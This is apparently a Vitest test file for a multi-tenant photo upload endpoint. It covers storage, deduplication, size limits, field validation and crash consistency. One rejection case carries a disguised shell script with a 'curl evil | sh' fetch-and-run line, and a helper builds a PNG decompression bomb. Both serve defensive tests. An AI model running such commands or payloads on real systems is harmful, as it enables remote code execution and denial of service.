import { createHash } from "node:crypto";
import { crc32, deflateSync } from "node:zlib";
import { v7 as uuidv7 } from "uuid";
import { beforeAll, describe, expect, test } from "vitest";
import { attachments } from "@/db/schema";
import { withTenant } from "@/db/with-tenant";
import { localStorage } from "@/lib/platform/storage/local-storage";
import type { Storage } from "@/lib/platform/storage/storage";
import { useStorage } from "@/lib/platform/storage/store";
import { callApi } from "../../support/api";
import { clock, codeOf, dataOf, image, newField, ownStorage, uploadForm } from "../check-ins/visit";

const LIMIT = 1_048_576;
let own: Awaited<ReturnType<typeof ownStorage>>;
beforeAll(async () => {
  own = await ownStorage();
});

const fields = (changes: Record<string, string> = {}) => ({
  id: uuidv7(),
  kind: "photo",
  occurred_at: clock(0),
  ...changes,
});
/** A whole JPEG of exactly so many bytes: readers ignore what follows its end. */
async function jpegOf(bytes: number): Promise<Buffer> {
  const jpeg = await image(3);
  return Buffer.concat([jpeg, Buffer.alloc(bytes - jpeg.length, 7)]);
}
const rowsOf = (tenantId: string) => withTenant({ tenantId }, (tx) => tx.select().from(attachments));
async function keysOf(files: Storage, tenantId: string): Promise<string[]> {
  const keys = [];
  for await (const file of files.list(`t/${tenantId}`)) keys.push(file.key);
  return keys.sort();
}
function bomb(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const signature = Buffer.from("89504e470d0a1a0a", "hex");
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(99))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

describe("attachments/create", () => {
  test("keeps the photo, its copies and its record", async () => {
    const { tenant, upload } = await newField();
    const bytes = await image(5, "png");
    const form = fields({ kind: "check_in", latitude: "-23.5", longitude: "-46.6" });
    const answer = await upload(form, bytes, 'C:\\fotos\\gôndola "1".png');
    expect(answer.status, answer.text).toBe(201);
    const sha256 = createHash("sha256").update(bytes).digest("hex");
    expect(dataOf(answer)).toMatchObject({
      id: form.id,
      kind: "check_in",
      mime: "image/png",
      bytes: bytes.length,
      sha256,
      width: 64,
      height: 48,
      file_name: "gôndola 1.png",
      latitude: -23.5,
      uploaded_by: tenant.userIds.promoter,
      url: `/api/files/${form.id}`,
    });
    expect(answer.text).not.toContain("t/");
    const [row] = await rowsOf(tenant.tenantId);
    expect(row?.storageKey).toMatch(new RegExp(`^t/${tenant.tenantId}/\\d{4}/\\d{2}/${sha256}$`));
    expect(await own.files.get(row?.storageKey ?? "")).toEqual(bytes);
    expect(await keysOf(own.files, tenant.tenantId)).toEqual([
      row?.storageKey,
      `${row?.storageKey}.thumb.webp`,
      `${row?.storageKey}.view.webp`,
    ]);
    expect((await tenant.auditOf("attachment", form.id)).map((line) => line.action)).toEqual(["create"]);
  });

  test("the same id and bytes again, 5 at once and 5 later, are one record", async () => {
    const { tenant, upload } = await newField();
    const [form, bytes] = [fields(), await image(6)];
    const together = await Promise.all(Array.from({ length: 5 }, () => upload(form, bytes)));
    expect(together.map((answer) => answer.status).sort()).toEqual([200, 200, 200, 200, 201]);
    const later = [];
    for (let i = 0; i < 5; i++) later.push(await upload(form, bytes));
    expect(new Set([...together, ...later].map((answer) => answer.text)).size).toBe(1);
    expect(await rowsOf(tenant.tenantId)).toHaveLength(1);
    const other = await upload(form, await image(7));
    expect([other.status, codeOf(other)]).toEqual([409, "conflict"]);
  });

  test("the same photo twice is stored once", async () => {
    const { tenant, upload } = await newField();
    const bytes = await image(8);
    for (let i = 0; i < 2; i++) expect((await upload(fields(), bytes)).status).toBe(201);
    expect(await rowsOf(tenant.tenantId)).toHaveLength(2);
    expect(await keysOf(own.files, tenant.tenantId)).toHaveLength(3);
  });

  test("1 048 576 bytes are taken, one more is too large", async () => {
    const { upload } = await newField();
    expect((await upload(fields(), await jpegOf(LIMIT))).status).toBe(201);
    const refused = await upload(fields(), await jpegOf(LIMIT + 1));
    expect([refused.status, codeOf(refused)]).toEqual([413, "too_large"]);
    const huge = await upload(fields(), Buffer.alloc(9_000_000, 1));
    expect([huge.status, codeOf(huge)]).toEqual([413, "too_large"]);
  });

  test.each([
    ["a script named .png", Buffer.from("#!/bin/sh\ncurl evil | sh\n"), 415, "invalid_file_type"],
    ["an SVG named .png", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 415, "invalid_file_type"],
    ["a cut PNG", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), 422, "invalid_image"],
    ["a header of 256 megapixels", bomb(16_000), 422, "image_too_large"],
  ])("refuses %s", async (_, bytes, status, code) => {
    const { tenant, upload } = await newField();
    const answer = await upload(fields(), bytes, "photo.png");
    expect([answer.status, codeOf(answer)]).toEqual([status, code]);
    expect(await rowsOf(tenant.tenantId)).toEqual([]);
    expect(await keysOf(own.files, tenant.tenantId)).toEqual([]);
  });

  test.each([
    [{ id: "nonsense" }, "id", "invalid_id"],
    [{ kind: "selfie" }, "kind", "invalid_choice"],
    [{ occurred_at: "today" }, "occurred_at", "invalid_date"],
    [{ latitude: "91", longitude: "0" }, "latitude", "invalid_latitude"],
    [{ latitude: "-23.5" }, "longitude", "incomplete_location"],
    [{ latitude: "0", longitude: "0" }, "latitude", "no_location"],
    [{ latitude: "x", longitude: "y" }, "latitude", "not_a_number"],
    [{ tenant_id: uuidv7() }, "tenant_id", "unknown_field"],
  ])("names what is wrong in %j", async (changes, field, code) => {
    const { upload } = await newField();
    const answer = await upload(fields(changes as Record<string, string>), await image());
    expect(answer.status, answer.text).toBe(422);
    expect(answer.body.error?.fields).toMatchObject({ [field]: [code] });
  });

  test("names a missing file and every missing field at once", async () => {
    const { upload } = await newField();
    const required = ["required"];
    expect((await upload({}, null)).body.error?.fields).toEqual({
      id: required,
      kind: required,
      occurred_at: required,
      file: required,
    });
    expect((await upload(fields(), Buffer.alloc(0))).body.error?.fields).toEqual({ file: required });
  });

  test("refuses what is not a form, and a body that was cut on its way", async () => {
    const { tenant, token } = await newField();
    const path = `/tenant/${tenant.tenantId}/attachments/create`;
    expect((await callApi(path, { token, body: { id: 1 } })).status).toBe(400);
    const whole = new Response(uploadForm(fields(), await image()));
    const [type, bytes] = [whole.headers.get("content-type") ?? "", Buffer.from(await whole.arrayBuffer())];
    const sent = async (raw: Buffer, length: number) =>
      callApi(path, {
        token,
        raw: new Uint8Array(raw),
        headers: { "content-type": type, "content-length": String(length) },
      });
    expect((await sent(bytes, bytes.length)).status).toBe(201);
    expect((await sent(bytes.subarray(0, bytes.length - 40), bytes.length)).status).toBe(400);
    expect((await sent(bytes, 5_000_000)).status).toBe(413);
  });
});

describe("a photo and its record never dangle (R14)", () => {
  /** The storage of a process that dies at the n-th step of an upload. */
  const dyingAfter = (steps: number): Storage => {
    let left = steps;
    return {
      ...own.files,
      async put(key, bytes) {
        if (left-- <= 0) throw new Error("killed");
        await own.files.put(key, bytes);
      },
    };
  };

  test("whatever step it dies at, there is no row without its file", async () => {
    const { tenant, upload } = await newField();
    const bytes = await image(9);
    for (const steps of [0, 1, 2]) {
      useStorage(dyingAfter(steps));
      const answer = await upload(fields(), bytes);
      expect([answer.status, codeOf(answer)]).toEqual([500, "unexpected"]);
      expect(await rowsOf(tenant.tenantId)).toEqual([]);
    }
    useStorage(own.files);
    expect((await upload(fields(), bytes)).status).toBe(201);
  });

  test("a full disk refuses uploads before Postgres stops (R32)", async () => {
    const { tenant, upload } = await newField();
    useStorage(localStorage(own.root, async () => 0.9));
    const answer = await upload(fields(), await image(10));
    useStorage(own.files);
    expect([answer.status, codeOf(answer), answer.headers.get("retry-after")]).toEqual([503, "storage_full", "60"]);
    expect(await rowsOf(tenant.tenantId)).toEqual([]);
  });
});
